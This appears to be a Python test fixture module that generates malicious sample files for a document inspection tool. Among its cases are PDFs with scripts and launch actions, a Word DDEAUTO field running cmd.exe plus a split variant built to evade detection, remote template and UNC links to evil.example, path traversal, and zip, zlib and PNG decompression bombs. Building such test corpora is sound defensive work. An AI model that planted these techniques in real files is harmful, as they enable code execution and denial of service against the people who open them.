"""Files of those who mean harm, each with what it must be refused for. All are made here."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from pikepdf import Array

from shared.inspection.faults import Fault
from tests.unit.shared.inspection import samples

Case = tuple[str, str, bytes, Fault, str]  # name, extension, content, fault, what is found


def corpus() -> list[Case]:
    return [*_pdfs(), *_office(), *_ole(), *_pictures()]


# ---- PDF -----------------------------------------------------------------------------------------


def _pdfs() -> Iterator[Case]:
    found = {
        "javascript on opening": "JavaScript 脚本",
        "a page on the web on opening": "打开时的动作",
        "javascript by name": "JavaScript 脚本",
        "XFA in a direct form": "XFA 表单",
        "an embedded file": "嵌入的附件",
        "an action on turning the page": "自动执行的动作",
        "rich media": "多媒体",
        "launch in a direct annotation": "启动程序的动作",
        "a form that sends itself": "提交表单的动作",
        "a document elsewhere": "跳转到外部文件的动作",
    }
    for name, content in samples.active_pdfs().items():
        yield name, "pdf", content, Fault.ACTIVE_CONTENT, found[name]
    yield "locked", "pdf", samples.encrypted_pdf(), Fault.ENCRYPTED, "打开密码"
    yield "restricted", "pdf", samples.encrypted_pdf(user=""), Fault.ENCRYPTED, "密码或权限限制"
    clean = samples.clean_pdf(pages=2)
    yield "an archive behind", "pdf", clean + _archive(), Fault.DISGUISED, "文件末尾附有别的内容"
    page = b"<html><script>alert(1)</script></html>"
    yield "a web page behind", "pdf", clean + page, Fault.DISGUISED, "文件末尾附有别的内容"
    for share in (3, 2):
        cut = clean[: len(clean) * (share - 1) // share]
        yield f"cut to {share - 1}/{share}", "pdf", cut, Fault.BROKEN, ""
    yield "inflating", "pdf", samples.inflating_pdf(), Fault.BROKEN, ""
    yield "deflated twice", "pdf", _deflated_twice(), Fault.BROKEN, ""
    yield "pages in a ring", "pdf", _ring_of_pages(), Fault.BROKEN, ""
    yield "tables in a ring", "pdf", _ring_of_tables(), Fault.BROKEN, ""
    yield "nested deeply", "pdf", _nested(), Fault.BROKEN, ""
    yield "too many pages", "pdf", samples.clean_pdf(pages=3_001), Fault.TOO_COMPLEX, "超过 3000 页"
    yield "a page of a kilometre", "pdf", _huge_page(), Fault.TOO_COMPLEX, "页面尺寸过大"


def _archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("evil.js", "x")
    return buffer.getvalue()


def _deflated_twice() -> bytes:
    """The object stream unpacks to what unpacks to gigabytes."""
    bomb = zlib.compress(zlib.compress(b"\x00" * (200 << 20), 9), 9)
    return _with_object_stream(bomb, filters=b"[/FlateDecode/FlateDecode]")


def _with_object_stream(packed: bytes, *, filters: bytes) -> bytes:
    parts = [
        b"%PDF-1.5\n",
        b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n",
        b"4 0 obj<</Type/ObjStm/N 1/First 5/Filter%s/Length %d>>stream\n" % (filters, len(packed)),
        packed,
        b"\nendstream endobj\n",
    ]
    body = b"".join(parts)
    catalog, stream, table = len(parts[0]), len(parts[0]) + len(parts[1]), len(body)
    entries = (
        *((0, 0, 65535), (1, catalog, 0), (2, 4, 0)),
        *((0, 0, 0), (1, stream, 0), (1, table, 0)),
    )
    xref = b"".join(struct.pack(">BIH", *entry) for entry in entries)
    head = b"5 0 obj<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(xref)
    return body + head + xref + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % table


def plain_pdf(*objects: bytes, prev: int | None = None) -> bytes:
    """Objects numbered from 1, the first one the catalogue, with a plain table."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    before = b"/Prev %d" % (start if prev is None else prev) if prev is not None else b""
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\n" % (len(objects) + 1, before)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def _ring_of_pages() -> bytes:
    return plain_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Pages/Count 1/Kids[2 0 R]/Parent 2 0 R>>",
    )


def _ring_of_tables() -> bytes:
    page = b"<</Type/Page/MediaBox[0 0 9 9]/Parent 2 0 R>>"
    pages = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
    objects = (b"<</Type/Catalog/Pages 2 0 R>>", pages, page)
    start = plain_pdf(*objects, prev=0).rindex(b"xref\n0")
    return plain_pdf(*objects, prev=start)


def _nested() -> bytes:
    return plain_pdf(b"<</Type/Catalog/Pages 2 0 R/X " + b"[" * 5_000 + b"]" * 5_000 + b">>")


def _huge_page() -> bytes:
    pdf = samples.blank_pdf()
    pdf.pages[0].MediaBox = Array([0, 0, 2_834_646, 842])
    return samples.saved(pdf)


# ---- Word and Excel ------------------------------------------------------------------------------


def _office() -> Iterator[Case]:
    for name, extension, folder, part, found in (
        ("a macro", "docx", "word", "word/vbaProject.bin", "VBA 宏"),
        ("a macro", "xlsx", "xl", "xl/vbaProject.bin", "VBA 宏"),
        ("a macro sheet", "xlsx", "xl", "xl/macrosheets/sheet1.xml", "Excel 4.0 宏表"),
        ("a control", "docx", "word", "word/activeX/activeX1.xml", "ActiveX 控件"),
        ("an object", "docx", "word", "word/embeddings/oleObject1.bin", "嵌入的 OLE 对象"),
        ("a macro workbook inside", "docx", "word", "word/embeddings/a.xlsm", "嵌入的 OLE 对象"),
        ("a workbook elsewhere", "xlsx", "xl", "xl/externalLinks/l.xml", "外部工作簿链接"),
        ("a connection", "xlsx", "xl", "xl/connections.xml", "外部数据连接"),
        ("a chunk of a web page", "docx", "word", "word/afchunk.mht", "外部内容片段"),
    ):
        yield name, extension, samples.office(folder, part), Fault.ACTIVE_CONTENT, found
    yield from _office_texts()
    yield "locked", "docx", samples.ole("EncryptedPackage"), Fault.ENCRYPTED, "打开密码"
    yield "locked parts", "docx", _zip_flagged(), Fault.ENCRYPTED, "压缩包密码"
    yield "a workbook as a letter", "docx", samples.office("xl"), Fault.DISGUISED, ""
    yield "an archive", "docx", _archive(), Fault.DISGUISED, ""
    yield "a way out", "docx", samples.office("word", "../../x"), Fault.DISGUISED, ""
    yield "cut", "docx", samples.office("word")[:-30], Fault.BROKEN, ""
    yield "a part that lies", "docx", _lying_part(), Fault.BROKEN, ""
    yield "two of one name", "docx", _two_of_one_name(), Fault.BROKEN, ""
    bomb = samples.office("word", parts={"word/media/a.png": b"\x00" * (401 << 20)})
    yield "a bomb", "docx", bomb, Fault.TOO_COMPLEX, "解压后过大"
    big = samples.office("word", parts={"word/a.xml": b" " * (65 << 20)})
    yield "one great part", "docx", big, Fault.TOO_COMPLEX, "解压后过大"
    many = samples.office("word", *(f"word/{n}.txt" for n in range(5_001)))
    yield "very many parts", "docx", many, Fault.TOO_COMPLEX, "超过 5000 个部件"


def _office_texts() -> Iterator[Case]:
    laughs = '<!DOCTYPE x [<!ENTITY a "ha">]><x>&a;</x>'
    template = samples.relationship("attachedTemplate", "https://evil.example/t.dotm")
    picture = samples.relationship("image", r"\\evil.example\share\a.png")
    field = '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText>'
    split = "<w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO c:\\\\cmd</w:instrText>"
    outside = "外部链接（模板、图片或对象）"
    for name, part, content, found in (
        ("entities", "word/document.xml", laughs, "XML 实体定义"),
        ("entities in UTF-16", "word/document.xml", laughs.encode("utf-16"), "XML 实体定义"),
        ("a template elsewhere", "word/_rels/settings.xml.rels", template, outside),
        ("a picture elsewhere", "word/_rels/document.xml.rels", picture, outside),
        ("a field that runs", "word/document.xml", field, "DDE 域"),
        ("a field in two pieces", "word/document.xml", split, "DDE 域"),
        (
            "a macro by its type",
            "[Content_Types].xml",
            '<Types><Override ContentType="application/vnd.ms-word.macroEnabled"/></Types>',
            "VBA 宏",
        ),
    ):
        yield (
            name,
            "docx",
            samples.office("word", parts={part: content}),
            Fault.ACTIVE_CONTENT,
            found,
        )


def _zip_flagged() -> bytes:
    content = bytearray(samples.office("word"))
    at = content.index(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def _lying_part() -> bytes:
    """Its directory says a part is smaller than it is."""
    content = bytearray(samples.office("word", parts={"word/a.txt": "x" * 1000}))
    at = content.rindex(b"word/a.txt") - 46
    content[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(content)


def _two_of_one_name() -> bytes:
    buffer = io.BytesIO(samples.office("word"))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.NameToInfo.clear()  # without its warning
        archive.writestr("word/document.xml", "<y/>")
    return buffer.getvalue()


def _ole() -> Iterator[Case]:
    for stream, found in (
        ("_VBA_PROJECT", "VBA 宏"),
        ("ObjectPool", "嵌入的 OLE 对象"),
        ("\x01Ole10Native", "嵌入的文件"),
    ):
        both = samples.ole("WordDocument", stream)
        yield f"doc: {stream}", "doc", both, Fault.ACTIVE_CONTENT, found
    locked = samples.ole("WordDocument").ljust(1024, b"\0") + _word_head(encrypted=True)
    yield "doc: locked", "doc", locked, Fault.ENCRYPTED, "打开密码"
    bof = struct.pack("<HHHHHH", 0x0809, 8, 0x0600, 5, 0, 0)
    book = samples.ole("Workbook").ljust(1024, b"\0")
    yield (
        *("xls: locked", "xls", book + bof + struct.pack("<HHH", 0x2F, 2, 0)),
        *(Fault.ENCRYPTED, "打开密码"),
    )
    sheet = struct.pack("<HHIBBB", 0x85, 8, 0, 0, 1, 1) + b"x"
    yield "xls: macro sheet", "xls", book + bof + sheet, Fault.ACTIVE_CONTENT, "Excel 4.0 宏表"
    yield "xls as doc", "doc", samples.ole("Workbook"), Fault.DISGUISED, ""


def _word_head(*, encrypted: bool) -> bytes:
    head = bytearray(b"\xec\xa5".ljust(512, b"\0"))
    head[0x0B] = 1 if encrypted else 0
    return bytes(head)


# ---- Pictures ------------------------------------------------------------------------------------


def _pictures() -> Iterator[Case]:
    yield "png cut", "png", samples.png()[:-12], Fault.BROKEN, ""
    yield "jpg cut", "jpg", samples.jpeg()[:-2], Fault.BROKEN, ""
    behind = samples.png() + b"<script>alert(1)</script>"
    yield "a page behind a picture", "png", behind, Fault.DISGUISED, "图片后附有别的内容"
    yield (
        "an archive behind",
        "jpg",
        samples.jpeg() + _archive(),
        Fault.DISGUISED,
        "图片后附有压缩包",
    )
    size = samples.large_png(20_000, 20_000)
    yield "very many pixels", "png", size, Fault.TOO_COMPLEX, "超过 12000 万像素"
    yield "a head alone", "png", _png_of(b""), Fault.BROKEN, ""
    yield "pixels that do not unpack", "png", _png_of(b"nonsense"), Fault.BROKEN, ""
    yield "metadata that unpack to very much", "png", _text_bomb(), Fault.BROKEN, ""


def _chunk(kind: bytes, content: bytes) -> bytes:
    check = struct.pack(">I", zlib.crc32(kind + content))
    return struct.pack(">I", len(content)) + kind + content + check


def _png_of(data: bytes) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", 100, 100, 8, 2, 0, 0, 0))
    body = _chunk(b"IDAT", data) if data else b""
    return b"\x89PNG\r\n\x1a\n" + head + body + _chunk(b"IEND", b"")


def _text_bomb() -> bytes:
    text = b"Comment\0\0" + zlib.compress(b"\x00" * (100 << 20), 9)
    whole = samples.png()
    return whole[:33] + _chunk(b"zTXt", text) + whole[33:]
